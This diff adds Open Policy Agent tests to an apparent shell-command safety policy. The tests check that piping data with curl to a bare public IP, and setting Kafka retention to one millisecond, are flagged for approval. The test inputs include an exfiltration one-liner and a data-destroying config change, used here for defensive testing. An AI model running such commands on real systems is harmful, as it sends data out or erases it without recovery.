@@ -1123,3 +1123,19 @@ test_bucket_emptied_by_lifecycle_asks if {
 	not shell_ids({"commands": [cmd(["aws", "s3api", "put-bucket-lifecycle-configuration", "--bucket", "b", "--lifecycle-configuration", old])]})["shell/recovery-off"]
 }
 
+
+test_upload_to_a_bare_public_address_asks if {
+	u := {"program": "curl", "target": "http://203.0.113.9/a", "source": "<stdin>", "evidence": "x | curl -d @- http://203.0.113.9/a"}
+	some d in rules.decision with input as shell_input([], {"uploads": [u]})
+	d.id == "shell/upload-to-address"
+	d.decision == "ask"
+	every t in ["http://10.1.2.3:8080/in", "http://127.0.0.1/x", "https://api.example.com/x", "http://192.168.1.5/u"] {
+		ids := {x.id | some x in rules.decision with input as shell_input([], {"uploads": [object.union(u, {"target": t})]})}
+		not "shell/upload-to-address" in ids
+	}
+}
+
+test_kafka_retention_to_nothing_asks if {
+	shell_ids({"commands": [cmd(["kafka-configs", "--bootstrap-server", "k:9092", "--alter", "--entity-type", "topics", "--entity-name", "p", "--add-config", "retention.ms=1"])]})["shell/recovery-off"] == "ask"
+	not shell_ids({"commands": [cmd(["kafka-configs", "--alter", "--add-config", "retention.ms=604800000"])]})["shell/recovery-off"]
+}
